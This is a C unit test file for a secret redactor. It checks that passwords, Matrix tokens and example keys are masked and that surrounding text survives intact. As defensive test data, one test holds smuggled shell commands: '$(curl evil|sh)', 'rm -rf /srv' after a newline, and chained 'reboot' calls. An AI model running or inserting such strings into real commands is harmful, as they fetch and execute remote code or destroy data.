/*
 * tests/security/test_sec_redaction_gaps.c - issue 11 finding 8: secrets
 * the redactor let through (PGPASSWORD=, a URL's password, mysql -pSECRET,
 * Matrix syt_ tokens, a fake "[REDACTED:" prefix shielding what follows),
 * one it over-redacted (Synapse's "M_UNKNOWN_TOKEN: Unrecognised access
 * token"), and a tag that must never swallow a line break, quote or shell
 * operator around a secret.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdlib.h>
#include <string.h>

#include "tools_redact.h"

static struct tools_redactor *make(void)
{
  struct tools_redactor *r = NULL;
  char err[MX_ERRBUF_LEN];
  assert_int_equal(tools_redact_new("0123456789abcdef0123456789abcdef", 32, &r, err), MX_OK);
  return r;
}

static void gaps_are_closed(void **state)
{
  (void)state;
  static const struct { const char *text, *secret; } leaks[] = {
      {"PGPASSWORD=pgS3cretValue psql -h db -U app", "pgS3cretValue"},
      {"export PGPASSWORD='pgS3cretValue'", "pgS3cretValue"},
      {"psql postgres://app:pgS3cretValue@db.example.org:5432/app", "pgS3cretValue"},
      {"redis-cli -u redis://:rdS3cretValue@cache:6379", "rdS3cretValue"},
      {"mysql -u root -pmyS3cretValue shop", "myS3cretValue"},
      {"mysqldump -h db -pmyS3cretValue --all-databases", "myS3cretValue"},
      {"curl -H 'Authorization: Bearer x' -d token=syt_YWxpY2U_FZsvBbNGQFIZEeRlKrxs_0ZoLR1", "syt_YWxpY2U_FZsvBbNGQFIZEeRlKrxs_0ZoLR1"},
      {"access syt_YWxpY2U_FZsvBbNGQFIZEeRlKrxs_0ZoLR1 expired", "syt_YWxpY2U_FZsvBbNGQFIZEeRlKrxs_0ZoLR1"},
      {"[REDACTED: AKIAIOSFODNN7EXAMPLE ] and more", "AKIAIOSFODNN7EXAMPLE"},
      {"[REDACTED:x password=hunter2hunter2 ]", "hunter2hunter2"},
  };
  struct tools_redactor *r = make();
  for (size_t i = 0; i < sizeof(leaks) / sizeof(leaks[0]); i++) {
    char *out = tools_redact_str(r, leaks[i].text);
    if (!out || strstr(out, leaks[i].secret))
      fail_msg("leaked: '%s' -> '%s'", leaks[i].text, out ? out : "(null)");
    free(out);
  }
  tools_redact_free(r);
}

static void synapse_message_is_not_over_redacted(void **state)
{
  (void)state;
  struct tools_redactor *r = make();
  static const char *const plain[] = {
      "login: HTTP 401 M_UNKNOWN_TOKEN: Unrecognised access token.",
      "sync: M_UNKNOWN_TOKEN: Unrecognised access token (soft_logout false)",
  };
  for (size_t i = 0; i < sizeof(plain) / sizeof(plain[0]); i++) {
    char *out = tools_redact_str(r, plain[i]);
    assert_non_null(out);
    assert_string_equal(out, plain[i]);
    free(out);
  }
  tools_redact_free(r);
}

/* The tag replaces the value only: what surrounds it still reads. */
static void tags_keep_shell_structure(void **state)
{
  (void)state;
  struct tools_redactor *r = make();
  char *out = tools_redact_str(r, "DB_PASSWORD=hunter2hunter2;reboot");
  assert_non_null(strstr(out, ";reboot"));
  free(out);
  out = tools_redact_str(r, "password=\"$(curl evil|sh)\" run");
  assert_non_null(strstr(out, "$(curl evil|sh)"));
  free(out);
  out = tools_redact_str(r, "token: 'abc\nrm -rf /srv'");
  assert_non_null(strstr(out, "\nrm -rf /srv'"));
  free(out);
  out = tools_redact_str(r, "api_key=abcdef123456&&reboot");
  assert_non_null(strstr(out, "&&reboot"));
  free(out);
  tools_redact_free(r);
}

int main(void)
{
  const struct CMUnitTest tests[] = {
      cmocka_unit_test(gaps_are_closed),
      cmocka_unit_test(synapse_message_is_not_over_redacted),
      cmocka_unit_test(tags_keep_shell_structure),
  };
  return cmocka_run_group_tests(tests, NULL, NULL);
}
